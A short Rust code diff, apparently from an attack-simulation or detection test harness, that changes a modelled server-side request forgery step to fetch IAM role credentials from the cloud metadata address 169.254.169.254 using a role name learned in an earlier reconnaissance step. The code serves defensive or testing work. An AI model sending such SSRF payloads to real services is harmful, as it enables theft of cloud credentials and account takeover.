@@ -66,8 +66,9 @@ fn forged(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
     request(scene, attack, 0.2, &forgery(), 200);
     let worker = scene.worker();
     scene.ask(0.05, worker, MetadataPath::Recon, false);
-    let again =
-        format!("/fetch?url={}", encoded("http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"));
+    // The first answer named the role.
+    let role = format!("http://169.254.169.254/latest/meta-data/iam/security-credentials/{}", scene.role());
+    let again = format!("/fetch?url={}", encoded(&role));
     sent(scene, attack, 4.0, 0.2, ("GET", &again, "curl/8.5"), 200);
     scene.ask(4.05, worker, MetadataPath::Credential, false);
     4.1
